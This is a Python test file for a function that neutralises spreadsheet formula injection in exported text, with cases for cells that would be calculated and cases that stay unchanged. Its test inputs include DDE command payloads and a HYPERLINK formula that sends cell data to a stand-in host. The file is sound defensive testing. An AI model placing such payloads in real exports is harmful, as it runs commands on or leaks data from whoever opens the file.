"""OWASP, CSV Injection: what a spreadsheet would calculate, and what it must not lose."""

import pytest

from legible.formula import defuse


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('=HYPERLINK("http://192.0.2.1/?x="&A1,"card")', None),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        (" =1+1", "' =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ('"=1+1', "'\"=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1+1", "'\uff0b1+1"),
        ("\uff0d1+1", "'\uff0d1+1"),
        ("\uff20SUM(1)", "'\uff20SUM(1)"),
        # Another separator than ours makes another cell of what follows it.
        ("a;=1+1.png", "a;'=1+1.png"),
        ("a,=1+1.png", "a,'=1+1.png"),
        ("a\t@SUM(1).png", "a\t'@SUM(1).png"),
        ("12\n=1+1", "12\n'=1+1"),
        ('a";=1+1', "a\";'=1+1"),
        # These would be calculated: +49-341 is shown as -292, two signed numbers as their sum.
        ("+49-341-1234", "'+49-341-1234"),
        ("+49/341", "'+49/341"),
        ("-12-34", "'-12-34"),
        ("-12\n-34", "'-12\n-34"),
        ("-", "'-"),
        ("-.5", "'-.5"),
    ],
)
def test_what_a_spreadsheet_would_calculate_is_a_text(text: str, written: str | None) -> None:
    safe = defuse(text)

    assert safe[0] == "'" or not text.startswith(("=", "+", "-", "@"))
    assert safe.replace("'", "") == text.replace("'", "")
    if written is not None:
        assert safe == written


@pytest.mark.parametrize(
    "text",
    [
        "",
        "04103",
        "-12",
        "-12.50",
        "-1,5",
        "+4934112345678",
        "+49 341 1234567",
        "+49 (0)341 1234567",
        "+1 (555) 0123456",
        "0341-1234567",
        "12\n-34",
        "12-34",
        "2026-01-31",
        "card 1, side -2.png",
        "a=b.png",
        "me@example.com.png",
        "O'Neill.png",
    ],
)
def test_numbers_and_plain_texts_stay_as_they_are(text: str) -> None:
    assert defuse(text) == text
